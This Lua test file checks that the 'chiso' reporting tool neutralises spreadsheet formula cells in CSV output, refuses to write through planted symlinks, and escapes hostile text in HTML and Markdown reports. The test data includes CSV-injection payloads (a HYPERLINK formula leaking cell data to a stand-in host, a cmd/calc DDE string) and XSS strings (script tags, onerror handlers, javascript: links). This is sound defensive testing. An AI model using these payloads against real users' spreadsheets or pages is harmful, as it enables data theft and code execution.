-- Output integrity: every file chiso writes is made whole beside its target
-- and renamed over it (never written through a link placed there), HTML
-- reports carry nothing that runs or fetches, and a sandboxed report's CSV
-- has its spreadsheet formulas made text. Sandboxed reports run as
-- `chiso run --sandbox REPORT --out DIR`; what they wrote is read back here
-- and compared with text worked out by hand (the comments give the rule).

local T = require "testing"
local quote, run, files_in, remove_tree = T.quote, T.run, T.files_in, T.remove_tree
local lfs = require "lfs"

local chiso_bin = assert(os.getenv("CHISO"), "tests/run sets CHISO")

-- A work folder with an empty out/ in it.
local function fresh_dir()
  local dir = T.tmpname("-integrity")
  assert(lfs.mkdir(dir))
  assert(lfs.mkdir(dir .. "/out"))
  return dir
end

-- Writes report text to dir/report.lua and runs it: sandboxed (mode "--sandbox") or trusted.
local function run_report(dir, text, mode, flags)
  T.write(dir .. "/report.lua", text)
  return run(string.format("cd %s && CHISO_TRUST= %s run %s %s %s --out %s </dev/null", quote(dir),
    chiso_bin, mode, flags or "", quote(dir .. "/report.lua"), quote(dir .. "/out")))
end

-- CSV formulas ---------------------------------------------------------------

-- Cells a spreadsheet would run (OWASP, "CSV Injection"), and cells it would not.
local FORMULA_REPORT = [[
local out = arg[#arg]
local ds = chiso.dataset{
  {"province", {'=HYPERLINK("http://x/?"&A1,"Lạng Sơn")', "+84 24 3825", "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "Hà Nội", "\tTab", "-1.5e3"}},
  {"score", {1, -2, 3, 4, 5, 6, 7}},
}
assert(ds:to_csv(out .. "/data.csv"))
local doc = require("chiso.report").new{title = "T"}
doc:table(ds)
assert(doc:write("csv", out .. "/report.csv"))
]]

--[[
  By hand, OWASP's rule: a text cell beginning with =, +, - or @ (or a tab
  or CR) that is not a number gets a ' in front; -3 and -1.5e3 are numbers
  and stay; the int column is numbers. Then docs/csv.md's quoting: a field
  with a delimiter (',', ';', '|' or a tab) or a quote is quoted, its quotes
  doubled.
]]
local NEUTRALISED = table.concat({
  "province,score",
  [["'=HYPERLINK(""http://x/?""&A1,""Lạng Sơn"")",1]],
  "'+84 24 3825,-2",
  "-3,3",
  [["'@SUM(1+1)*cmd|' /C calc'!A0",4]],
  "Hà Nội,5",
  "\"'\tTab\",6",
  "-1.5e3,7",
}, "\n") .. "\n"

T.case("a sandboxed report's CSV files have formula cells written after a ', with a note", function()
  local dir = fresh_dir()
  local _, err, status = run_report(dir, FORMULA_REPORT, "--sandbox")
  T.eq(status, 0, "status (" .. err .. ")")
  T.eq(T.read(dir .. "/out/data.csv"), NEUTRALISED, "ds:to_csv")
  T.eq(T.read(dir .. "/out/report.csv"), NEUTRALISED, "doc:write('csv')")
  local notes = select(2, err:gsub("4 cells beginning with =, %+, %-, @, a tab or a carriage return "
    .. "written after a ' so that spreadsheets do not run them as formulas", ""))
  T.eq(notes, 2, "one note per file, with the count (stderr: " .. err .. ")")
  T.eq(files_in(dir .. "/out"), {"data.csv", "report.csv"}, "nothing else written")
  remove_tree(dir)
end)

T.case("a trusted run writes the same cells as they are, and they load back unchanged", function()
  local dir = fresh_dir()
  local _, err, status = run_report(dir, FORMULA_REPORT, "--trust")
  T.eq(status, 0, "status (" .. err .. ")")
  T.eq(err, "", "no note")
  -- By hand: the same fields without the ', quoted as before.
  local expected = NEUTRALISED:gsub("\n'", "\n"):gsub('"\'', '"')
  T.eq(T.read(dir .. "/out/data.csv"), expected, "ds:to_csv")
  T.eq(T.read(dir .. "/out/report.csv"), expected, "doc:write('csv')")
  local back = assert(chiso.read_csv(dir .. "/out/data.csv"))
  T.eq(back:col("province"):totable(), {'=HYPERLINK("http://x/?"&A1,"Lạng Sơn")', "+84 24 3825",
    "-3", "@SUM(1+1)*cmd|' /C calc'!A0", "Hà Nội", "\tTab", "-1.5e3"}, "values read back")
  remove_tree(dir)
end)

T.case("the note about neutralised cells counts against --max-output", function()
  local dir = fresh_dir()
  -- The file's 18 bytes fit in 150; the note (about 170 bytes more) does not.
  local _, err, status = run_report(dir, [[
local out = arg[#arg]
assert(chiso.dataset{a = {"=1+2", "=3+4", "x"}}:to_csv(out .. "/data.csv"))
]], "--sandbox --max-output 150")
  T.eq(status, 7, "stopped by the output limit (stderr: " .. err .. ")")
  T.truthy(err:find("output limit reached", 1, true), err)
  remove_tree(dir)
end)

-- Writing through links --------------------------------------------------------

T.case("pre-placed links at <out>.part, beside or at the target are never written through", function()
  local dir = fresh_dir()
  T.write(dir .. "/victim.txt", "keep\n")
  for _, name in ipairs{"report.csv.part", "report.html.part", "data.csv.part", "report.html"} do
    assert(lfs.link(dir .. "/victim.txt", dir .. "/out/" .. name, true))
  end
  for _, mode in ipairs{"--sandbox", "--trust"} do
    local _, err, status = run_report(dir, [[
local out = arg[#arg]
local doc = require("chiso.report").new{title = "T"}
doc:table(chiso.dataset{a = {1, 2}})
assert(doc:write("csv", out .. "/report.csv"))
assert(doc:write("html", out .. "/report.html"))
assert(chiso.dataset{a = {1, 2}}:to_csv(out .. "/data.csv"))
]], mode)
    T.eq(status, 0, mode .. " status (" .. err .. ")")
    T.eq(T.read(dir .. "/victim.txt"), "keep\n", mode .. ": the file behind the links is untouched")
    T.eq(lfs.symlinkattributes(dir .. "/out/report.html", "mode"), "file",
      mode .. ": the link at the target itself is replaced by the report")
    T.eq(T.read(dir .. "/out/report.csv"), "a\n1\n2\n", mode .. ": report.csv")
    for _, name in ipairs{"report.csv.part", "report.html.part", "data.csv.part"} do
      T.eq(lfs.symlinkattributes(dir .. "/out/" .. name, "mode"), "link", mode .. ": " .. name .. " left be")
    end
    os.remove(dir .. "/out/report.html")
    assert(lfs.link(dir .. "/victim.txt", dir .. "/out/report.html", true))
  end
  T.eq(files_in(dir .. "/out"), {"data.csv", "data.csv.part", "report.csv", "report.csv.part",
    "report.html", "report.html.part"}, "no temporary file left")
  remove_tree(dir)
end)

T.case("a write that fails leaves neither the file nor a temporary one", function()
  local dir = fresh_dir()
  assert(lfs.mkdir(dir .. "/out/taken.csv"))
  local out, err, status = run_report(dir, [[
local out = arg[#arg]
print(chiso.dataset{a = {1}}:to_csv(out .. "/taken.csv"))
print(require("chiso.report").new{title = "T"}:write("text", out .. "/taken.csv"))
]], "--trust")
  T.eq(status, 0, "status (" .. err .. ")")
  -- rename(2) onto a folder fails with EISDIR; the message names the path given
  T.truthy(out:find("^nil\t.*/out/taken%.csv: Is a directory\nnil\t.*/out/taken%.csv: Is a directory\n$"), out)
  T.eq(files_in(dir .. "/out"), {"taken.csv"}, "only the folder that was there")
  T.eq(files_in(dir .. "/out/taken.csv"), {}, "and nothing in it")
  remove_tree(dir)
end)

T.case("a written file gets 0666 less the umask, as any new file does", function()
  local dir = fresh_dir()
  T.write(dir .. "/report.lua", [[
local out = arg[#arg]
assert(chiso.dataset{a = {1}}:to_csv(out .. "/a.csv"))
assert(require("chiso.report").new{title = "T"}:write("html", out .. "/r.html"))
]])
  local _, err, status = run(string.format("cd %s && umask 027 && %s run --trust %s --out %s", quote(dir),
    chiso_bin, quote(dir .. "/report.lua"), quote(dir .. "/out")))
  T.eq(status, 0, "status (" .. err .. ")")
  T.eq(lfs.attributes(dir .. "/out/a.csv", "permissions"), "rw-r-----", "a.csv under umask 027")
  T.eq(lfs.attributes(dir .. "/out/r.html", "permissions"), "rw-r-----", "r.html under umask 027")
  remove_tree(dir)
end)

-- HTML -----------------------------------------------------------------------------

-- Text meant to run or fetch, in every place a report takes text.
local HTML_REPORT = [[
local out = arg[#arg]
local script = "<script>document.title='PWNED'</script>"
local img = '<img src="http://127.0.0.1:9/x.png" onerror="document.title=\'PWNED\'">'
local link = '<a href="javascript:alert(1)">x</a><link rel="stylesheet" href="http://127.0.0.1:9/s.css">'
local doc = require("chiso.report").new{title = "T " .. script, subtitle = img, lang = "en"}
doc:heading(link):paragraph(script .. img):note('" onmouseover="alert(1)')
doc:table({{name = script, value = 1}, {name = img, value = 2}},
  {headers = {name = img}, caption = script})
local chart = require("chiso.chart")
doc:chart(chart.bars{title = script, items = {{label = img, value = 1}, {label = script, value = 2}},
  reference = {value = 1.5, label = link}}, {caption = img})
doc:chart(chart.scatter{title = img, x_label = script, y_label = img, annotation = link,
  points = {{x = 1, y = 2, label = script}, {x = 2, y = 3, label = img}}, label_points = true})
doc:chart(chart.slope{title = link, left = script, right = img,
  items = {{label = script, left = 1, right = 2}}})
doc:chart(chart.rank_history{title = script, y_label = img,
  series = {{label = img, points = {{x = 2020, y = 1}, {x = 2021, y = 2}}}}})
-- SVG of the report's own making, with a script and a remote image in it.
doc:chart('<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="PWNED"</script>'
  .. '<image href="http://127.0.0.1:9/y.png" width="10" height="10"/></svg>')
assert(doc:write("html", out .. "/report.html"))
]]

-- The tags an HTML report may hold: the page's own and chiso.chart's SVG.
local TAGS = {}
for name in ([[html head meta title style body main h1 h2 h3 h4 p br div table caption thead
    tbody tr th td figure figcaption img svg desc rect line circle polyline text]]):gmatch("%S+") do
  TAGS[name] = true
end

-- Every tag of page: a known one, no event handler, no URL but SVG's namespace, images only data:.
local function check_tags(page)
  local count = 0
  for closing, name, attrs in page:gmatch("<(/?)([%w!]+)([^>]*)>") do
    count = count + 1
    local lower = name:lower()
    T.truthy(lower == "!doctype" or TAGS[lower], "tag <" .. closing .. name .. "> is one a report may hold")
    T.truthy(not attrs:lower():find("%son%a+%s*="), "no event handler in <" .. name .. attrs .. ">")
    local rest = attrs:gsub('xmlns="http://www%.w3%.org/2000/svg"', ""):gsub('http%-equiv="', "")
    T.truthy(not rest:lower():find("http"), "no URL in <" .. name .. attrs:sub(1, 120) .. ">")
    T.truthy(not rest:lower():find("javascript:"), "no javascript: in <" .. name .. ">")
    if lower == "img" then
      T.truthy(attrs:find('^ alt="" src="data:image/svg%+xml;base64,[%w+/=]+"$'), "img only as data: " .. attrs)
    end
  end
  return count
end

T.case("an HTML report of hostile text holds no script, handler, remote image or style", function()
  for _, mode in ipairs{"--sandbox", "--trust"} do
    local dir = fresh_dir()
    local _, err, status = run_report(dir, HTML_REPORT, mode)
    T.eq(status, 0, mode .. " status (" .. err .. ")")
    local page = T.read(dir .. "/out/report.html")
    T.truthy(page:find([[<meta http-equiv="Content-Security-Policy" content="default-src 'none'; ]]
      .. [[style-src 'unsafe-inline'; img-src data:">]], 1, true), mode .. ": the policy")
    T.truthy(not page:lower():find("<script", 1, true), mode .. ": no <script")
    T.truthy(not page:lower():find("<image", 1, true), mode .. ": no SVG <image")
    T.truthy(check_tags(page) > 50, mode .. ": tags checked")
    -- The text is all there, escaped: in the page's own HTML...
    T.truthy(page:find("<h1>T &lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt;</h1>", 1, true),
      mode .. ": title escaped")
    -- ... and in the charts' SVG (XML escapes; the ' needs none inside text).
    T.truthy(page:find(">&lt;img src=&quot;http://127.0.0.1:9/x.png&quot; onerror=&quot;document.title="
      .. "'PWNED'&quot;&gt;</text>", 1, true), mode .. ": chart label escaped")
    -- The report's own SVG is there only as an image, in which a browser runs and fetches nothing.
    T.eq(select(2, page:gsub('<img alt="" src="data:image/svg%+xml;base64,', "")), 1,
      mode .. ": one chart as a data: image")
    T.eq(select(2, page:gsub("<svg ", "")), 4, mode .. ": chiso's four charts inline")
    remove_tree(dir)
  end
end)

T.case("Markdown of hostile text opens no HTML tag and no image", function()
  local report = require "chiso.report"
  local doc = report.new{title = "T <script>x</script>", lang = "en"}
  doc:paragraph('![x](http://127.0.0.1:9/x.png) <img src="http://127.0.0.1:9/y.png">')
  doc:table({{a = "<b onmouseover=x>"}})
  local md = doc:render("md")
  T.truthy(not md:find("<%a"), "no tag opens: " .. md)
  T.truthy(not md:find("![", 1, true), "no image syntax: " .. md)
  T.truthy(md:find("!\\[x](http://127.0.0.1:9/x.png) &lt;img", 1, true), "the text kept, escaped: " .. md)
end)

T.finish()
